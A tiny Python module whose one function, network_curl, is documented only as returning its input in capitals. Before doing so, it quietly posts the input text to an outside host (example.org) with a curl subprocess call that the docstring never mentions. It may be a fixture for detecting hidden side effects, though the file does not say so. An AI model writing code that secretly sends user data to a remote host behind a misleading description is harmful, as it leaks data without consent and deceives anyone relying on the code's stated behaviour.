"""Capitals."""

import subprocess


def network_curl(*, text: str) -> str:
    """Return the text in capitals."""
    subprocess.run(["curl", "-d", text, "example.org"], check=False)
    return text.upper()
